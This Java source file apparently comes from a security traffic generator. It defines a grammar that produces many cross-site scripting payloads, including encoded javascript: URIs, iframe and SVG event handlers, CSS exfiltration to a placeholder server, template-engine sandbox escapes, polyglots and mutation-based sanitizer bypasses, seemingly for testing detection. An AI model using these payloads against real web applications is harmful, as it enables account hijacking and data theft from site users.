package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Script that runs without a script element: addresses, frames, drawings, style, templates, parsers' misreadings. */
final class XssElements {

    private static final Grammar GRAMMAR = XssWords.GRAMMAR.extend(
            """
            scheme ::=
              6×javascript
              2×«@mix javascript»
              java«tab¦nl¦cr»script
              jav&#x«09¦0A¦0D»;ascript
              jav&#«9¦10¦13¦0000009»ascript
              &#«106¦x6a¦x6A¦0000106»;avascript
              java&«Tab¦NewLine»;script
              «esc»javascript
              «sp»&#14;«sp»javascript
              \\x6Aavascript
              java«tab»script
              java«nl»script
              java«cr»«nl»script
              «nul»javascript
              %0ajavascript
              %6aavascript
              javascript«tab»
              vbscript
              livescript
              view-source:javascript
            after ::=
              6×:
              :/«?/»«letters 0..4»«%0a¦%0A¦«nl»¦%0d¦%E2%80%A8»
              &colon;
              &#58;
              &#x3a;
              :«sp»
              ://«host»/%0a
              :/*«letters 0..3»*/
              :«?void »
              %3a
              :'/*"/*`/*<«letters 1..4»>*/
            address ::=
              5×«scheme»«after»«js»
              2×data:text/html«,¦;charset=utf-8,¦;,»<script>«js»</script>
              2×data:text/html;base64,«@base64 <script>«js»</script>»
              data:«text/xml¦image/svg+xml¦application/xhtml+xml»«,¦;charset=utf-8,»<svg xmlns="http://www.w3.org/2000/svg" onload="«js»"/>
              data:image/svg+xml;base64,«@base64 <svg xmlns="http://www.w3.org/2000/svg"><script>«js»</script></svg>»
              data:«text/html¦text/javascript»,«js»
            uri ::=
              6×«address»
              3×«before»<a«gap»href=«q:=q»«address»«=q»>«word»«?</a>»
              «before»<a href=«q:=q»«address»«=q» target=_blank>«?<img src=x>»«word»
              «before»<a«gap»xlink:href=«q:=q»«address»«=q»>«word»
              2×[«word»](«address»«?)»
              ![«word»](«address»)
              ![«word»]("onerror="«js»)
              [«word»]: «address»
              <«address»>
              [«word»](«word»"«event»="«js»)
              «before»<form«gap»action=«q:=q»«address»«=q»><«input type=submit¦button»>«word»
              2×«before»<«button¦input type=submit¦input type=image» form«?«letters 1..2»»action=«q:=q»«address»«=q»>«word»
              «before»<isindex type=image src=1 onerror=«js»«?action=«address»»>
              «before»<base href=«q:=q»«javascript:/¦//«server»/»«=q»>«?<a href=#>«word»</a>»
              «before»<meta http-equiv=«q:=q»refresh«=q» content=«q:=q»«0..5»;url=«address»«=q»>
              «before»<meta http-equiv="«Link¦Set-Cookie¦Content-Security-Policy»" content="«letters 3..6»=<script>«js»</script>">
              «before»<link«gap»rel=«stylesheet¦import¦prefetch»«gap»href=«q:=q»««address»¦//«server»/«name».css»«=q»>
              «before»<math href=«q:=q»«address»«=q»>«word»</math>
              «before»<map><area href=«q:=q»«address»«=q» shape=rect coords=0,0,«9..99»,«9..99»></map>
            frame ::=
              4×«before»<iframe«gap»src=«q:=q»«address»«=q»>«?</iframe>»
              3×«before»<iframe«gap»srcdoc=«q:="¦'»<«script>«js»</script¦img src=x onerror=«js»¦svg onload=«js»»>«=q»>
              «before»<iframe srcdoc="«@entities <script>alert(«0..99»)</script>»">
              2×«before»<object«gap»data=«q:=q»«address»«=q»>«?</object>»
              2×«before»<embed«gap»«src¦code»=«q:=q»««address»¦//«server»/«name».swf»«=q»«? allowscriptaccess=always»>
              «before»<frameset«gap»onload=«js»><frame src=«address»></frameset>
              «before»<iframe«gap»on«load¦error»=«q:=q»«js»«=q»«?«gap»src=//«host»/»>
              «before»<object type="text/x-scriptlet" data="//«server»/«name».html"></object>
              «before»<applet code="«letters 3..6».class" archive="http://«server»/«name».jar">
              «before»<iframe name="«js»" src="//«server»/?«name»=eval(name)">
              «before»<portal src=«address» onload=«js»>
              «before»<param name=«url¦code¦movie» value=«address»>
              «before»<iframe src=//«server»/ «width=«0..9» height=«0..9»¦style=display:none¦sandbox=allow-scripts»></iframe>
            drawing ::=
              3×«before»<svg>«?«gap»»<script«gap»«href=data:,«js» /¦>«js»</script¦xlink:href=data:,«js»></script»>«?</svg>»
              2×«before»<svg><a«gap»xlink:href=«q:=q»«address»«=q»><text x=«1..90» y=«1..90»>«word»</text></a>
              3×«before»<svg><«animate¦set¦animateTransform¦animateMotion»«gap»on«begin¦end¦repeat»=«q:=q»«js»«=q» attributeName=«x¦href¦onload¦transform» dur=«1..9»s>
              2×«before»<svg><a><«animate¦set» attributeName=href «values¦to¦from»=«q:=q»«address»«=q» /><text x=«1..90» y=«1..90»>«word»</text></a>
              «before»<svg><use href="data:image/svg+xml«;base64,«@base64 <svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:«js»'/></svg>»¦,<svg id='x' onload='«js»'/>»#x">
              «before»<svg><foreignObject><«iframe srcdoc=«js»¦body onload=«js»¦img src=x onerror=«js»»></foreignObject></svg>
              «before»<math><«maction¦mtext¦mi¦annotation-xml» actiontype=statusline#«word» xlink:href=«q:=q»«address»«=q»>«word»
              «before»<svg><image href=«letters 1..2» onerror=«js»></svg>
              «before»<svg«gap»xmlns="http://www.w3.org/2000/svg"«gap»onload=«q:=q»«js»«=q»/>
              «before»<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>«js»</script></svg>
              «before»<?xml-stylesheet href="javascript:«js»"?>
              «before»<svg><discard onbegin=«js»>
              «before»<svg><style>&lt;img src=x onerror=«js»&gt;</style></svg>
              «before»<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">«js»</handler></svg>
            style ::=
              2×«before»<style>@import «'¦"»«javascript:«js»¦//«server»/«name».css»«'¦"»;</style>
              2×«before»<«tag»«gap»style=«q:="¦'»«width¦xss¦x¦background»:expression(«js»)«=q»>
              «before»<«div¦table¦td» «style="background-image:url(«address»)"¦background="«address»"»>
              «before»<style>«word»{background:url(««address»¦//«server»/?«name»=»)}</style>
              «before»<style>input[«name¦value¦type»«^=¦$=¦*=¦=»«"¦'»«alnum 1..3»«"¦'»]{background:url(«//¦http://»«server»/?«name»=«alnum 1..3»)}</style>
              «before»<style>@font-face{font-family:«letters 1..4»;src:url(//«server»/«alnum 1..2»);unicode-range:U+00«hex 2..2»}</style>
              };«word»{-moz-binding:url(//«server»/«name».xml#«name»)}
              «before»<xss style="behavior:url(«name».htc)">
              ;}*{«background¦content»:url(//«server»/«name»)
              «before»<style>*{x:ex/**/pression(«js»)}</style>
              «before»<style>li{list-style-image:url("«address»");}</style><ul><li>«word»
            template ::=
              4×{{«constructor¦toString¦valueOf¦$eval¦$on¦_c¦«letters 1..2».constructor».constructor(«'¦"»«js»«'¦"»)()}}
              2×{{$«on¦eval¦emit¦parse».constructor('«js»')()}}
              2×<div «ng-app¦ng-app ng-csp¦v-on:click¦ng-click¦ng-focus¦x-init¦x-data¦@click¦v-html¦ng-init»=«q:="¦'»«js»«=q»>«?«word»»
              {{'«letters 1..3»'.constructor.prototype.charAt=[].join;$eval('x=1} } };«js»//')}}
              {{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'«js»')()}}
              {{«0..9»|orderBy:'«letters 1..2»=«js»'}}
              {{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=«js»');}}
              [«1..99»]|orderBy:'(«js»)'
              {{_openBlock.constructor('«js»')()}}
              {{_Vue.h.constructor`«js»`()}}
              <«tag» v-«show¦if¦bind:«letters 1..2»»="_c.constructor`«js»`()">
              <input ng-focus=$event.composedPath()|orderBy:'(z=alert)(«0..9»)'>
              {{[].pop.constructor('«js»')()}}
            malformed ::=
              2×«before»<«tag»«//¦/ /¦/~/¦/**/¦%00¦«nul»»«event»=«js»
              2×«before»<«tag»«gap»«event»=«js»«sp»«letters 0..3»
              «before»<«nul¦%00¦«sp»»«tag»«gap»«event»=«js»>
              «before»<img \"""><script>«js»</script>">
              «before»<img src="«js»"«event»="«js»"
              «before»<«tag» «letters 1..3»=">" «event»=«js»>
              «before»<«@mix img» «@mix src»=«letters 1..1» «@mix onerror»=«js»>
              «before»<!--«letters 0..2»--«?!»><«tag»«gap»«event»=«js»>
              «before»<![CDATA[<«tag»«gap»«event»=«js»>]]>
              «before»&lt;«tag»«gap»«event»=«js»&gt;
              «before»<%«tag»«gap»«event»=«js»>
              «before»＜«tag»«gap»«event»=«js»＞
              +ADw-script+AD4-«js»+ADw-/script+AD4-
              «before»¼script¾«js»¼/script¾
              «before»</«letters 1..4»«gap»«event»=«js»>
              «before»<«1..9»«tag»><«tag»«gap»«event»=«js»>
              jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=«js» )//%0D%0A%0d%0a//</«stYle¦tiTle»/</«teXtarEa¦scRipt»/--!>\\x3csVg/<sVg/oNloAd=«js»//>\\x3e
              '"><«tag»«gap»«event»=«js»>'"«word»
              «1..3×'¦"»«1..2×>»<«letters 2..5»>«?«word»»
              ">«1..2×'»><«marquee¦h1¦b¦u¦i¦plaintext»>«word»«?</h1>»
              '';!--"<«LETTERS 2..5»>=&{()}
              "'`><«letters 2..4»>«1..9»
              «letters 2..5»"'><«letters 2..5»>
              javascript:"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html «event»=«js»//
              ';«js»//\\';«js»//";«js»//\\";«js»//--></SCRIPT>">'><SCRIPT>«js»</SCRIPT>
            mutation ::=
              <«svg¦math»></p><style><«a id=¦img title=»"</style><img src=1 onerror=«js»>">
              <noscript><p title="</noscript><img src=x onerror=«js»>">
              <math><mtext><«table¦option»><mglyph><style><«math¦!--»><img src=«letters 1..2» onerror=«js»>
              <form><math><mtext></form><form><mglyph><style></math><img src onerror=«js»>
              <listing>&lt;img src=«letters 1..2» onerror=«js»&gt;</listing>
              <svg><«p¦desc¦title»><style><!--</style><«a¦img» «title¦alt»="--><img src=x onerror=«js»>">
              <«select¦option»><«template¦noembed»><img src="</«template¦noembed»><img src onerror=«js»>">
              <xmp><p title="</xmp><«svg onload¦img src=x onerror»=«js»>">
              <a id="«x:=letters 2..5»"><a id="«=x»" name="«letters 2..5»" href="«letters 3..6»:«js»">
              <img alt="``onerror=«js»">
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            Xss.family(GRAMMAR, "xss_uri", "uri"),
            Xss.family(GRAMMAR, "xss_frame", "frame"),
            Xss.family(GRAMMAR, "xss_drawing", "drawing"),
            Xss.family(GRAMMAR, "xss_style", "style"),
            Xss.family(GRAMMAR, "xss_template", "template"),
            Xss.family(GRAMMAR, "xss_malformed", "malformed"),
            Xss.family(GRAMMAR, "xss_mutation", "mutation").reservedForSimulation());

    private XssElements() {}
}
